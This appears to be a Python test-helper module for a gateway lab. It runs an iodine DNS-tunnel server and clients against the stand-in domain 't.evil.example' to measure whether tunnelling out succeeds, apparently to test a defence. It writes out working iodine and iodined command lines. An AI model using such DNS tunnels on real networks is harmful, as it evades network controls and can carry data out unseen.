"""iodine carries IP in DNS questions: its server at the ISP, its client wherever somebody tries to get out."""

from collections.abc import Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

from gateway.lab.driver import Lab
from gateway.lab.plan import MODEM_IPV4, SECOND_WEB_IPV4
from tests.lab.judges.programs import running, said, scratch

TYPES = ("NULL", "TXT", "SRV", "MX", "CNAME", "A")
FORWARDER_IPV4 = SECOND_WEB_IPV4
DOMAIN = "t.evil.example"
_TUNNEL = "10.53.0."  # addresses inside the tunnel begin so
_DEVICE = "tunnel"
_UP = "Connection setup complete"


@dataclass(frozen=True, slots=True)
class Attempt:
    """One try of the client: a record type (any: it looks for one itself), and whom it asks."""

    resolver: str
    record_type: str = "any"

    @property
    def words(self) -> list[str]:
        """Its command line, all but the tunnel's device."""
        kind = ["-T", self.record_type] if self.record_type != "any" else []
        # -r: no raw mode, which is plain UDP to the server's port 53; who looks for a way by itself tries that too
        return ["iodine", "-f", *(["-r", *kind] if kind else []), "-P", "x"]


@dataclass(frozen=True, slots=True)
class Outcome:
    """What became of an attempt: has it a tunnel, has it given up, and what it said."""

    is_up: bool
    has_ended: bool
    said: str


@dataclass(frozen=True, slots=True)
class Server:
    """A running iodined."""

    log: Path

    def questions(self) -> int:
        """How many have reached it."""
        return sum(line.startswith("RX: ") for line in said(self.log).splitlines())


@contextmanager
def server(lab: Lab) -> Iterator[Server]:
    """iodined at the ISP's end of the line, and an open forwarder that passes its domain on to it."""
    forwarder = ["dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--user=root", "--group=", "--pid-file="]
    forwarder += ["--no-resolv", "--no-hosts", "--bind-interfaces", f"--listen-address={FORWARDER_IPV4}"]
    forwarder += [f"--server=/{DOMAIN}/{MODEM_IPV4}"]
    # -DD: each question is a line
    daemon = ["iodined", "-f", "-c", "-DD", "-P", "x", "-d", _DEVICE, "-l", MODEM_IPV4, f"{_TUNNEL}1/24", DOMAIN]
    with (
        scratch() as directory,
        running([*lab.inside("isp"), *daemon], directory / "iodined"),
        running([*lab.inside("isp"), *forwarder], directory / "forwarder"),
    ):
        lab.wait_until(lambda: "Listening to dns" in said(directory / "iodined"), what="iodined")
        sockets = ["ss", "-Hlun", "src", f"{FORWARDER_IPV4}:53"]
        lab.wait_until(lambda: lab.run("isp", sockets).stdout, what="the forwarder")
        yield Server(directory / "iodined")


def attempts(lab: Lab, client: str, tries: Sequence[Attempt], within_s: float) -> list[Outcome]:
    """All of them side by side on one part of the lab, until each is up or has given up, or the time is over."""
    with ExitStack() as programs:
        directory = programs.enter_context(scratch())
        started = []
        for number, attempt in enumerate(tries):
            log = directory / f"{number}"
            command = [*attempt.words, "-d", f"{_DEVICE}{number}", attempt.resolver, DOMAIN]
            started.append((programs.enter_context(running([*lab.inside(client), *command], log)), log))

        def _outcomes() -> list[Outcome]:
            return [Outcome(_UP in said(log), child.poll() is not None, said(log)) for child, log in started]

        with suppress(AssertionError):  # time is over: the outcomes say which are still at it
            lab.wait_until(lambda: all(found.is_up or found.has_ended for found in _outcomes()), within_s)
        return _outcomes()


def pings_through(lab: Lab, client: str, attempt: Attempt) -> int:
    """How many of 25 echoes, five a second, come back through a tunnel 10 s old; 0 when it does not come up."""
    with scratch() as directory:
        command = [*attempt.words, "-d", f"{_DEVICE}0", attempt.resolver, DOMAIN]
        with running([*lab.inside(client), *command], directory / "client"):
            with suppress(AssertionError):
                lab.wait_until(lambda: _UP in said(directory / "client"), 8)
            ping = ["ping", "-q", "-i", "0.2", "-W", "1", f"{_TUNNEL}1"]
            lab.run(client, [*ping, "-c", "50"])
            told = lab.run(client, [*ping, "-c", "25"]).stdout
            return int(told.split(" received")[0].rsplit(" ", 1)[-1]) if " received" in told else 0


def has_tunnel(lab: Lab, client: str) -> bool:
    """Has any device an address of the tunnel?"""
    return _TUNNEL in lab.run(client, ["ip", "-4", "addr"]).stdout
